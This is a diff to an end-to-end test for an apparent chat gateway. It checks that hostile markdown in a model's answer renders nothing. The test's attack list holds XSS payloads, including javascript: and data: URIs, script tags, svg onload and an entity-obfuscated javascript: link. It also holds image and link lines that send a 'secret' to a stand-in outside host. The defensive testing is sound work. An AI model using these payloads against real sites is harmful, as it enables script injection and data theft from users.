@@ -12,16 +12,16 @@ from tests.e2e.gateway_process import gateway_process
 from tests.fakes.cutting_proxy import Stranger
 from tests.fakes.openai_server import OpenAIServer
 
-pytestmark = pytest.mark.asyncio(loop_scope="module")
+pytestmark = pytest.mark.asyncio(loop_scope="session")
 
 
-@pytest_asyncio.fixture(loop_scope="module", scope="module")
+@pytest_asyncio.fixture(loop_scope="session", scope="module")
 async def model() -> AsyncIterator[OpenAIServer]:
     async with OpenAIServer() as server:
         yield server
 
 
-@pytest_asyncio.fixture(loop_scope="module", scope="module")
+@pytest_asyncio.fixture(loop_scope="session", scope="module")
 async def house(
     browser: Browser, model: OpenAIServer, tmp_path_factory: pytest.TempPathFactory
 ) -> AsyncIterator[House]:  # fmt: skip
@@ -38,8 +38,9 @@ def attacks(stranger: str) -> list[str]:
         f"![a picture](http://{stranger}/leak?q=secret)",
         f"![a](//{stranger}/x.png) [![b](http://{stranger}/y.png)](http://{stranger}/z)",
         f'<script src="http://{stranger}/x.js"></script><script>alert(1)</script>',
-        "[click](javascript:alert(1)) [me](JaVaScRiPt:alert(1)) [too](data:text/html,<script>alert(1)</script>) [v](vbscript:x)",
-        f'<svg onload="alert(1)"><use href="http://{stranger}/s.svg#x"/></svg><math><mi xlink:href="javascript:alert(1)">',
+        "[click](javascript:alert(1)) [me](JaVaScRiPt:alert(1)) [v](vbscript:x)",
+        "[too](data:text/html,<script>alert(1)</script>) [more](&#106;avascript:alert(1))",
+        f'<svg onload="alert(1)"><use href="http://{stranger}/s.svg#x"/></svg><math><mi href="javascript:alert(1)">',
         f'<iframe src="http://{stranger}/"></iframe><object data="http://{stranger}/o"></object><embed src="http://{stranger}/e">',
         f'<link rel="stylesheet" href="http://{stranger}/c.css"><style>@import "http://{stranger}/i.css";</style>',
         f'<a href="http://{stranger}/" ping="http://{stranger}/p" style="position:fixed;inset:0">all</a>',
@@ -64,7 +65,8 @@ async def test_a_hostile_answer_does_nothing(house: House, model: OpenAIServer, 
             await page.answered()
         found = await page.evaluate("""(() => {
           const prose = [...document.querySelectorAll('.prose')];
-          const every = prose.flatMap((one) => [...one.querySelectorAll('*')].filter((inner) => !inner.closest('.code-head')));
+          const every = prose.flatMap((one) => [...one.querySelectorAll('*')])
+            .filter((one) => !one.closest('.code-head'));
           return {
             tags: [...new Set(every.map((one) => one.localName))],
             attributes: [...new Set(every.flatMap((one) => one.getAttributeNames()))],
@@ -73,7 +75,7 @@ async def test_a_hostile_answer_does_nothing(house: House, model: OpenAIServer, 
           };
         })()""")
         assert not set(found["tags"]) & {
-            "img", "script", "svg", "use", "iframe", "object", "embed", "link", "style", "form", "base", "math", "video", "image"
+            "img", "script", "svg", "use", "iframe", "object", "embed", "link", "style", "form", "base", "math",
         }  # fmt: skip
         assert not [
             name
